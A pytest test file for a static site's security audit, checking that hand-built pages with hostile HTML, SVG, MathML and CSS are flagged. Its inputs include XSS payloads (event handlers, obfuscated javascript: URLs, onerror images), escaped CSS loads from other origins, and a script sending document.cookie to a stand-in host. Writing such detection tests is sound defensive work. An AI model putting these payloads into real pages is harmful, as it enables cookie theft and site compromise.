"""The audit's security scan (briefing.site.pagescan) on pages made by hand: each hostile class is
caught, the theme's own page is not, and deep nesting is a failure, not a page checked in part."""

from __future__ import annotations

from pathlib import Path

import pytest

from briefing.site.audit import check_links

THEME_SCRIPT = '__md_scope=new URL("/aigb/",location)'
HEAD = (
    '<!doctype html><html><head><link rel="stylesheet" href="/aigb/assets/main.css">'
    '<link rel="canonical" href="https://example.org/aigb/x/">'
    '<script src="/aigb/assets/bundle.js"></script><script>{script}</script>'
    '<script id="__config" type="application/json">{{}}</script></head>'
    '<body><nav><input id="__drawer"></nav><article class="md-content__inner">{body}</article></body></html>'
)


def page(body: str, script: str = THEME_SCRIPT) -> str:
    return HEAD.format(body=body, script=script)


def site_with(tmp_path: Path, body: str, script: str = THEME_SCRIPT) -> Path:
    root = tmp_path / "site"
    (root / "assets").mkdir(parents=True)
    (root / "assets/main.css").write_text("")
    (root / "assets/bundle.js").write_text("")
    (root / "404.html").write_text(page(""), "utf-8")
    (root / "x").mkdir()
    (root / "x/index.html").write_text(page(body, script.replace("/aigb/", "..")).replace('"/aigb/', '"../'), "utf-8")
    (root / "sitemap.xml").write_text(
        '<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        "<url><loc>https://example.org/aigb/</loc></url><url><loc>https://example.org/aigb/x/</loc></url></urlset>")
    return root


def test_the_theme_page_passes(tmp_path: Path) -> None:
    assert check_links(site_with(tmp_path, "<p>Plain text.</p>")) == []


CASES = {
    "event handler": ('<h2 id="x" onfocus="alert(1)">Scope</h2>', "event-handler attribute 'onfocus' on <h2>"),
    "javascript url": ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "javascript: URL in <a>"),
    "clobbered config": ('<div id="__config">x</div>', "the id '__config' appears more than once"),
    "theme id in article": ('<form id="__search"></form>', "the theme's id '__search' is used inside the article"),
    "script in article": ("<script>alert(1)</script>", "a <script> inside the article"),
    "remote image": ('<img src="https://elsewhere.example/p.gif">', "<img src> loads from another origin"),
    "protocol-relative image": ('<img src="//elsewhere.example/p.gif">', "<img src> loads from another origin"),
    "remote srcset": ('<img srcset="a.png 1x, https://e.example/b.png 2x">', "<img srcset> loads from another"),
    "remote svg image": ('<svg><image href="https://e.example/i.png"/></svg>', "<image href> loads from another"),
    "css url": ('<p style="background:url(https://e.example/x.png)">x</p>', "CSS loads from another origin"),
    "duplicate id": ('<h2 id="brief-sources">a</h2><h2 id="brief-sources">b</h2>', "'brief-sources' appears more"),
    # Hardening round three: a hand-written page's form or ping to another site.
    "form to another site": ('<form action="https://other.example/login"><input type="password"></form>',
                             "<form action> sends to another origin: https://other.example/login"),
    "formaction to another site": ('<form><button formaction="//other.example/x">go</button></form>',
                                   "<button formaction> sends to another origin: //other.example/x"),
    "ping to another site": ('<a href="../y/" ping="../log https://other.example/">x</a>',
                             "<a ping> sends to another origin: https://other.example/"),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_each_hostile_class_is_caught(tmp_path: Path, name: str) -> None:
    body, expected = CASES[name]
    failures = check_links(site_with(tmp_path, body))
    assert any(f.startswith("x/index.html: ") and expected in f for f in failures), failures


@pytest.mark.parametrize("trailer, expected", [
    ("<p onclick='a()'>y</p>", "event-handler attribute 'onclick' on <p>"),
    ("<img src='https://e.example/x.png'>", "<img src> loads from another origin"),
    ("<a href='javascript:alert(1)'>x</a>", "javascript: URL in <a>"),
    ("<script>alert(1)</script>", "an inline script that is not the theme's"),
    ("<style>p{background:url(https://e.example/x.png)}</style>", "CSS loads from another origin"),
])
def test_what_follows_the_end_of_the_page_is_scanned_too(tmp_path: Path, trailer: str, expected: str) -> None:
    """libxml2 puts what follows </html> in a second top-level element; a browser shows and runs it."""
    root = site_with(tmp_path, "<p>x</p>")
    (root / "x/index.html").write_text((root / "x/index.html").read_text() + trailer)
    failures = check_links(root)
    assert any(f.startswith("x/index.html: ") and expected in f for f in failures), failures


def test_an_inline_script_that_is_not_the_themes_is_caught(tmp_path: Path) -> None:
    failures = check_links(site_with(tmp_path, "<p>x</p>", script="fetch('https://e.example/'+document.cookie)"))
    assert failures == ["x/index.html: an inline script that is not the theme's: \"fetch('https://e.example/'+document.cookie)\""]


def test_a_script_file_that_is_not_the_sites_is_caught(tmp_path: Path) -> None:
    root = site_with(tmp_path, "<p>x</p>")
    text = (root / "x/index.html").read_text().replace("../assets/bundle.js", "https://cdn.example/b.js")
    (root / "x/index.html").write_text(text)
    assert check_links(root) == [
        "x/index.html: a script from another origin: https://cdn.example/b.js",
        "x/index.html: <script src> loads from another origin: https://cdn.example/b.js",
    ]


def test_links_after_deep_nesting_are_not_skipped_silently(tmp_path: Path) -> None:
    deep = "<div>" * 3000 + '<img src="https://e.example/p.gif">' + "</div>" * 3000
    failures = check_links(site_with(tmp_path, deep))
    assert "x/index.html: the page is nested too deeply to audit (Excessive depth in document: 2048)" in failures


def test_moderate_nesting_is_audited_in_full(tmp_path: Path) -> None:
    # libxml2 stops at 256 levels unless told otherwise: the audit lifts that limit.
    deep = "<div>" * 400 + '<img src="https://e.example/p.gif">' + "</div>" * 400
    failures = check_links(site_with(tmp_path, deep))
    assert failures == ["x/index.html: <img src> loads from another origin: https://e.example/p.gif"]


# Each gap closed after the first review of the scan, with the page's exact failures.
EXACT = {
    "base href": ('<base href="https://elsewhere.example/">',
                  ["<base href> moves every relative URL of the page: https://elsewhere.example/"]),
    "relative base href": ('<base href="../../">', ["<base href> moves every relative URL of the page: ../../"]),
    "xml:base": ('<svg xml:base="https://e.example/"><image href="i.png"/></svg>',
                 ["<svg xml:base> moves every relative URL inside it: https://e.example/"]),
    "alternate stylesheet": ('<link rel="alternate stylesheet" href="https://elsewhere.example/x.css">',
                             ["<link href> loads from another origin: https://elsewhere.example/x.css"]),
    "preconnect": ('<link rel="preconnect" href="https://elsewhere.example">',
                   ["<link href> loads from another origin: https://elsewhere.example"]),
    "dns-prefetch": ('<link rel="DNS-Prefetch" href="//elsewhere.example">',
                     ["<link href> loads from another origin: //elsewhere.example"]),
    "next (Firefox prefetches it)": ('<link rel="next" href="https://elsewhere.example/">',
                                     ["<link href> loads from another origin: https://elsewhere.example/"]),
    "link with no rel": ('<link href="https://elsewhere.example/">',
                         ["<link href> loads from another origin: https://elsewhere.example/"]),
    "preload imagesrcset": ('<link rel="preload" as="image" imagesrcset="../i.png 1x, https://e.example/a.png 2x">',
                            ["<link imagesrcset> loads from another origin: https://e.example/a.png"]),
    "image-set": ('<p style=\'background-image: image-set("https://evil.example/x.png" 1x)\'>x</p>',
                  ["CSS loads from another origin: https://evil.example/x.png"]),
    "-webkit-image-set": ('<p style="background:-webkit-image-set(\'a.png\' 1x, \'https://e.example/b.png\' 2x)">x</p>',
                          ["CSS loads from another origin: https://e.example/b.png"]),
    "escaped url(": (r'<p style="background:u\72l(https://e.example/c.png)">x</p>',
                     ["CSS loads from another origin: https://e.example/c.png"]),
    "escaped url( with its space": (r'<p style="background:\75 rl( https://e.example/c.png )">x</p>',
                                    ["CSS loads from another origin: https://e.example/c.png"]),
    "escaped scheme": ('<p style=\'background:url("\\68ttps://e.example/d.png")\'>x</p>',
                       ["CSS loads from another origin: https://e.example/d.png"]),
    "@import with no space": ('<style>@import"https://e.example/s.css";</style>',
                              ["CSS loads from another origin: https://e.example/s.css"]),
    "@import after a comment": ('<style>@import/**/"https://e.example/s.css";</style>',
                                ["CSS loads from another origin: https://e.example/s.css"]),
    "a quote in a comment": ("<style>/* it's */ p{background:image-set('https://e.example/e.png' 1x)} /* ' */</style>",
                             ["CSS loads from another origin: https://e.example/e.png"]),
    "an escaped quote in a string": ('<style>p{content:"\\""} q{background:image-set("https://e.example/f.png" 1x)}'
                                     "</style>", ["CSS loads from another origin: https://e.example/f.png"]),
    "a comment opener in an unquoted url": ('<style>p{background:url(x/*)} q{background:image-set('
                                            '"https://e.example/g.png")} /* */</style>',
                                            ["CSS loads from another origin: https://e.example/g.png"]),
    "svg presentation attribute": ('<svg><rect fill="url(https://e.example/f.svg#p)"/></svg>',
                                   ["CSS loads from another origin: https://e.example/f.svg#p"]),
    "refresh to elsewhere": ('<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">',
                             ["<meta http-equiv=refresh> sends the reader to another origin: https://elsewhere.example/"]),
    "refresh, quoted, no url=": ("<meta http-equiv=Refresh content=\"1,'//elsewhere.example/x'\">",
                                 ["<meta http-equiv=refresh> sends the reader to another origin: "
                                  "//elsewhere.example/x"]),
    "refresh to javascript:": ('<meta http-equiv="refresh" content="0;URL=\'javascript:alert(1)\'">',
                               ["javascript: URL in <meta>"]),
    "srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
               ["<iframe srcdoc> holds a document the audit does not scan"]),
    "animated href": ('<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
                      ["<set> animates 'href', a URL or event-handler attribute"]),
    "animated xlink:href": ('<svg><image><animate attributeName="xlink:href" values="https://e.example/1.png;i.png"/>'
                            "</image></svg>", ["<animate> animates 'xlink:href', a URL or event-handler attribute"]),
    "animated handler": ('<svg><set attributeName="onclick" to="alert(1)"/></svg>',
                         ["<set> animates 'onclick', a URL or event-handler attribute"]),
    "animated fill": ('<svg><rect><set attributeName="fill" to="url(https://e.example/p.svg#p)"/></rect></svg>',
                      ["CSS loads from another origin: https://e.example/p.svg#p"]),
    "svg pattern href": ('<svg><pattern href="https://e.example/p.svg#p"/></svg>',
                         ["<pattern href> loads from another origin: https://e.example/p.svg#p"]),
    "markup in an svg title": ("<svg><title><img src=x onerror=alert(1)></title></svg>",
                               ["markup or a character reference in an SVG or MathML <title>, which a browser "
                                "parses: '<img src=x onerror=alert(1)>'"]),
    # libxml2 closes a self-closed <style/> as a browser does inside SVG: the <img> is an element to both.
    "markup after a self-closed svg style": ("<svg><style/><img src=x onerror=alert(1)></svg>",
                                             ["event-handler attribute 'onerror' on <img>"]),
    # What libxml2 leaves raw, it may also leave undecoded: a browser decodes the reference here.
    "a character reference in an svg style": ("<svg><style>p{background:url(&#104;ttps://e.example/x)}</style></svg>",
                                              ["markup or a character reference in an SVG or MathML <style>, which a "
                                               "browser parses: 'p{background:url(&#104;ttps://e.example/x)}'"]),
    # A JSON script is exempt from the inline-script check, not from this (and in the article it is
    # a script inside the article as well).
    "markup in an svg json script": ('<svg><script type="application/json"><img src=//evil.example/i onerror=alert(1)>'
                                     "</script></svg>",
                                     ["markup or a character reference in an SVG or MathML <script>, which a browser "
                                      "parses: '<img src=//evil.example/i onerror=alert(1)>'",
                                      "a <script> inside the article"]),
    "url( glued to a name": ("<style>p{background:\u00b5url(//evil.example/x)}</style>",
                             ["CSS loads from another origin: //evil.example/x"]),
    "url( after a comment opener": ("<style><!--url(//evil.example/y)--></style>",
                                    ["CSS loads from another origin: //evil.example/y"]),
    "markup in a mathml textarea": ("<math><textarea><b onclick=alert(1)>x</b></textarea></math>",
                                    ["markup or a character reference in an SVG or MathML <textarea>, which a "
                                     "browser parses: '<b onclick=alert(1)>x</b>'"]),
}


@pytest.mark.parametrize("name", sorted(EXACT))
def test_each_closed_gap_is_caught_with_its_message(tmp_path: Path, name: str) -> None:
    body, expected = EXACT[name]
    assert check_links(site_with(tmp_path, body)) == [f"x/index.html: {failure}" for failure in expected]


@pytest.mark.parametrize("trailer, expected", [
    ('<svg><script src="../assets/bundle.js">alert(1)</script></svg>',  # an SVG script runs its text
     ["an inline script that is not the theme's: 'alert(1)'"]),
    ('<svg><script href="https://e.example/s.js"></script></svg>',
     ["a script from another origin: https://e.example/s.js", "<script href> loads from another origin: "
      "https://e.example/s.js"]),
    ('<svg><script xlink:href="../assets/nowhere.js"></script></svg>',
     ["a script that is not a file of this site: ../assets/nowhere.js"]),
])
def test_an_svg_script_s_href_and_text_are_checked(tmp_path: Path, trailer: str, expected: list[str]) -> None:
    root = site_with(tmp_path, "<p>x</p>")
    (root / "x/index.html").write_text((root / "x/index.html").read_text() + trailer)
    assert check_links(root) == [f"x/index.html: {failure}" for failure in expected]


def test_the_site_s_own_forms_of_these_are_not_flagged(tmp_path: Path) -> None:
    """What the theme and the site's templates emit (feed, canonical, prev and next links, the
    redirect pages' refresh, inline SVG icons) and what is no load at all (a link the reader
    follows, a link type that fetches nothing, a CSS string that is no URL, an SVG title with an
    ampersand) pass. (An escaped `&lt;b&gt;` in an SVG title would not: libxml2 has decoded it,
    and the scan cannot tell it from markup, so it fails closed.)"""
    root = site_with(tmp_path, (
        '<link rel="alternate feed" type="application/atom+xml" title="Briefs (Atom)" href="../feed.xml">'
        '<link rel="alternate feed" type="application/feed+json" href="../feed.json">'
        '<link rel="alternate" type="application/atom+xml" href="https://elsewhere.example/feed.xml">'
        '<link rel="canonical" href="https://example.org/aigb/x/"><link rel="prev" href="..">'
        '<link rel="next" href="../y/"><link rel="author license" href="https://elsewhere.example/about">'
        '<link rel="icon" href="../assets/main.css"><link rel="alternate stylesheet" href="../assets/main.css">'
        '<meta http-equiv="refresh" content="0; url=../y/"><meta http-equiv="refresh" content="30">'
        '<meta http-equiv="refresh" content="0; url=https://example.org/aigb/y/">'
        '<a href="https://elsewhere.example/source">a source</a>'
        '<svg viewBox="0 0 24 24"><title>A chart &amp; its data</title><use href="#icon"/>'
        '<rect fill="url(#grad)" stroke="currentColor"/><a href="https://elsewhere.example/">x</a></svg>'
        '<p style="background:image-set(\'../assets/i.png\' 1x, url(/aigb/assets/j.png) 2x); '
        "font-family:'Roboto', \"Noto Sans\"; content:'see https example'\">x</p>"
        "<style>p{background:url(../assets/k.png)} q{content:\"\\201C\"}</style>"
    ))
    (root / "feed.xml").write_text("<feed/>")
    assert check_links(root) == []


def test_css_with_many_unclosed_urls_is_scanned_in_linear_time(tmp_path: Path) -> None:
    """`url(''` repeated with no closing parenthesis: each url() body was read to the end of the
    text, then dropped (quadratic: about 70 s for a 200 KB page). Now each character is read once."""
    import time

    start = time.perf_counter()
    failures = check_links(site_with(tmp_path, "<p style=\"background:" + "url(''" * 40_000 + '">x</p>'))
    assert failures == []
    assert time.perf_counter() - start < 10
